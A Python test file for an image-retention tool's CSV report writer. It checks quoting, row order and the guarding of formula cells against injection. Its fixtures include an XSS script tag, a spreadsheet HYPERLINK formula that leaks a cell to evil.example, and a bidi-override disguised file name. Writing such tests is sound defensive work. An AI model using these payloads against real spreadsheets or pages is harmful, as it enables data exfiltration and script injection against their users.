"""The CSV sheet of a run report: one row per image, RFC 4180, hostile values read back exactly, formulas guarded."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter

from ecr_retention.domain.in_use.references import MissingReference
from ecr_retention.domain.inventory.manifest import Workload
from ecr_retention.domain.planning.plan_parts import Reason
from ecr_retention.domain.reporting.report import ImageEntry, RepositoryReport
from ecr_retention.domain.reporting.run_report import RunFacts, RunReport, run_report_of
from ecr_retention.report_sheet import COLUMNS, csv_text, guarded, pushed_at_cell, render_sheet, sheet_bytes
from support.builders import NOW, digest

SCRIPT = '"><script>alert(1)</script>'
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
BIDI = "gpj.\u202eexe"
MULTILINE = 'first line, with a comma\nsecond "quoted" line\r\nthird'


def entry(seed: str, *, days: int, reasons: tuple[Reason, ...], **fields: object) -> ImageEntry:
    main = reasons[0]
    values: dict[str, object] = {
        "image_digest": digest(seed),
        "image_tags": (),
        "image_pushed_at": NOW - timedelta(days=days),
        "image_size_in_bytes": 1000 + days,
        "kind": main.kind,
        "rule": main.rule,
        "detail": main.detail,
        "reasons": reasons,
    }
    return TypeAdapter(ImageEntry).validate_python({**values, **fields})


def hostile_report() -> RunReport:
    delete = Reason(kind="delete-rule", rule="policies[0].rules[1]", detail=MULTILINE)
    keep = Reason(kind="keep-rule", rule=FORMULA, detail=SCRIPT)
    in_use = Reason(kind="in-use", detail="prod: Deployment/app")
    repo = RepositoryReport(
        repository_name="app",
        outcome="partial",
        images=6,
        kept=2,
        kept_images=(
            entry("kept", days=40, reasons=(keep, in_use), image_tags=(SCRIPT, "@sum", "v1")),
            entry("young", days=0, reasons=(Reason(kind="min-age", detail="-1d young"),), image_size_in_bytes=None),
        ),
        deleted=(entry("gone", days=90, reasons=(delete,), image_tags=(FORMULA,)),),
        archived=(entry("cold", days=60, reasons=(delete,), image_tags=("pr-1", BIDI)),),
        cancelled=(entry("moved", days=70, reasons=(delete,), kind="tag-changed", detail="its tags changed: v9"),),
        failed=(
            entry(
                "stuck",
                days=80,
                reasons=(delete,),
                kind="delete-failed",
                detail="+ the key is disabled",
                error_code="KmsError",
            ),
        ),
    )
    other = RepositoryReport(
        repository_name="\tteam/+api",
        outcome="ok",
        images=1,
        kept=1,
        kept_images=(entry("other", days=3, reasons=(Reason(kind="no-delete-rule", detail="no delete rule"),)),),
    )
    return run_report_of(
        RunFacts(
            run_id="20261130T060000Z-cli-0123abcd",
            trigger="cli",
            dry_run=False,
            started_at=NOW,
            finished_at=NOW,
            repositories=[other, repo],
        )
    )


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def unguarded(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:2] in ("=", "+", "-", "@", "\t", "\r") else cell


def test_the_sheet_has_a_header_then_one_row_per_image_each_exactly_once() -> None:
    report = hostile_report()
    rows = parsed(render_sheet(report))
    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == 1 + report.totals.images
    digests = [(row[0], row[1]) for row in rows[1:]]
    assert len(set(digests)) == len(digests)
    assert {row[5] for row in rows[1:]} == {"keep", "delete", "archive", "cancelled", "failed"}


def test_rows_go_by_repository_then_newest_first() -> None:
    rows = parsed(render_sheet(hostile_report()))[1:]
    assert [row[0] for row in rows] == ["'\tteam/+api", *["app"] * 6]
    app = [row[1] for row in rows[1:]]
    assert app == [digest(seed) for seed in ("young", "kept", "cold", "moved", "stuck", "gone")]


def test_records_end_with_crlf_and_line_breaks_inside_a_cell_are_quoted() -> None:
    text = render_sheet(hostile_report())
    assert text.startswith(",".join(COLUMNS) + "\r\n")
    assert text.endswith("\r\n")
    assert '"first line, with a comma\nsecond ""quoted"" line\r\nthird"' in text


def test_hostile_values_read_back_exactly_as_plain_cells() -> None:
    rows = {row[1]: dict(zip(COLUMNS, row, strict=True)) for row in parsed(render_sheet(hostile_report()))[1:]}
    kept = rows[digest("kept")]
    assert kept["tags"] == f"{SCRIPT} @sum v1"
    assert kept["rule"] == "'" + FORMULA
    assert unguarded(kept["rule"]) == FORMULA
    assert kept["detail"] == SCRIPT
    assert kept["reason_kinds"] == "keep-rule;in-use"
    gone = rows[digest("gone")]
    assert gone["tags"] == "'" + FORMULA
    assert gone["detail"] == MULTILINE
    assert gone["pushed_at"] == f"{NOW - timedelta(days=90):%Y-%m-%dT%H:%M:%SZ}"
    assert gone["size_bytes"] == "1090"
    assert rows[digest("young")]["size_bytes"] == ""
    assert rows[digest("young")]["detail"] == "'-1d young"


def test_the_bidi_override_stays_as_it_is_in_its_own_cell() -> None:
    rows = parsed(render_sheet(hostile_report()))
    [cell] = [cell for row in rows for cell in row if "\u202e" in cell]
    assert cell == f"pr-1 {BIDI}"


def test_cancelled_and_failed_rows_name_what_became_of_the_removal() -> None:
    rows = {row[1]: dict(zip(COLUMNS, row, strict=True)) for row in parsed(render_sheet(hostile_report()))[1:]}
    assert rows[digest("moved")]["reason_kinds"] == "delete-rule;tag-changed"
    assert rows[digest("moved")]["detail"] == "its tags changed: v9"
    stuck = rows[digest("stuck")]
    assert (stuck["action"], stuck["reason_kinds"]) == ("failed", "delete-rule;delete-failed")
    assert stuck["detail"] == "KmsError: + the key is disabled"
    assert stuck["rule"] == "policies[0].rules[1]"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_guarded(start: str) -> None:
    assert guarded(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("cell", ["", "v1", "sha256:ab", " =1", "'quoted", "1-2"])
def test_other_cells_are_left_as_they_are(cell: str) -> None:
    assert guarded(cell) == cell


def test_a_report_without_images_is_its_header() -> None:
    report = run_report_of(
        RunFacts(run_id="r", trigger="cli", dry_run=True, started_at=NOW, finished_at=NOW, repositories=[])
    )
    assert render_sheet(report) == ",".join(COLUMNS) + "\r\n"


def test_the_sheet_as_bytes_is_the_sheet_encoded() -> None:
    report = hostile_report()
    assert sheet_bytes(report) == render_sheet(report).encode("utf-8")


def test_images_pushed_at_the_same_second_go_by_digest() -> None:
    reasons = (Reason(kind="no-delete-rule", detail="no delete rule"),)
    entries = [entry(seed, days=5, reasons=reasons) for seed in ("c", "a", "b")]
    repo = RepositoryReport(repository_name="app", outcome="ok", images=3, kept=3, kept_images=tuple(entries))
    report = run_report_of(
        RunFacts(run_id="r", trigger="cli", dry_run=True, started_at=NOW, finished_at=NOW, repositories=[repo])
    )
    assert [row[1] for row in parsed(render_sheet(report))[1:]] == sorted(digest(seed) for seed in "abc")


# Cells with what CSV quotes (a comma, a quote, line breaks), what it does not, and a formula's start.
CELL = st.text(alphabet=st.sampled_from([",", '"', "\r", "\n", " ", "\t", "=", "a", "é", "\u2028", "\x00"]), max_size=6)


@given(st.lists(CELL, min_size=2, max_size=10), st.integers(min_value=1, max_value=9))
def test_cells_are_written_as_the_csv_module_writes_them(row: list[str], cut: int) -> None:
    """Whole, and in two parts joined by a comma (as a record is written: the image's cells, then its reasons')."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerow(row)
    written = buffer.getvalue().removesuffix("\r\n")
    head, tail = tuple(row[: min(cut, len(row) - 1)]), tuple(row[min(cut, len(row) - 1) :])

    assert csv_text(tuple(row)) == written
    assert csv_text(head) + "," + csv_text(tail) == written


@given(st.datetimes(timezones=st.just(UTC)))
def test_the_push_time_is_written_as_strftime_writes_it(moment: datetime) -> None:
    assert pushed_at_cell(moment) == f"{moment:%Y-%m-%dT%H:%M:%SZ}"


def test_in_use_references_that_are_missing_follow_the_images_as_rows_of_their_own() -> None:
    # Given a report whose app:dev (a tag prod ran as one digest) and =tools@digest are gone
    prod = (Workload(cluster="prod", namespace="prod", workload="Deployment/app", source="pod"),)
    by_tag = MissingReference(
        repository_name="app",
        image="app:dev",
        image_tag="dev",
        missing="tag",
        in_use_by=prod,
        resolved_digests=(digest("ran"),),
    )
    by_digest = MissingReference(
        repository_name="=tools",
        image="=tools@sha256:x",
        image_digest=digest("x"),
        missing="repository",
        in_use_by=prod,
    )
    report = run_report_of(
        RunFacts(
            run_id="r",
            trigger="cli",
            dry_run=True,
            started_at=NOW,
            finished_at=NOW,
            repositories=[],
            other_in_use_missing=[by_digest, by_tag],
        )
    )
    # When the sheet is written, then each is a row after the images, sorted by repository, formulas guarded
    rows = parsed(render_sheet(report))[1:]
    assert rows == [
        ["'=tools", digest("x"), "", "", "", "in-use-missing", "in-use-missing", "", by_digest.detail, ""],
        ["app", digest("ran"), "dev", "", "", "in-use-missing", "in-use-missing", "", by_tag.detail, ""],
    ]
    assert by_tag.detail == "the next pull of prod: prod/Deployment/app (pod) fails: app:dev no longer exists"
